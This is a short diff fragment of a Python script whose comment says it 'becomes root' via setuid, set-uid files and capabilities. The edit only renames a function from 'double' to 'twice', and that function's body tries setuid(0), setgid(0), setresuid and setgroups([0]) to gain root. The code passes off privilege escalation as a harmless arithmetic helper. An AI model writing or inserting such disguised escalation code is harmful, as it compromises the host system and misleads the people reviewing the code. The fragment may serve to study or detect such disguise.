@@ -2,7 +2,7 @@
 # Becomes root by setuid, set-uid files and capabilities.
 import ctypes, os, shutil, subprocess
 libc = ctypes.CDLL(None, use_errno=True)
-def double(n):
+def twice(n):
     for attack in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):
         try:
             attack()
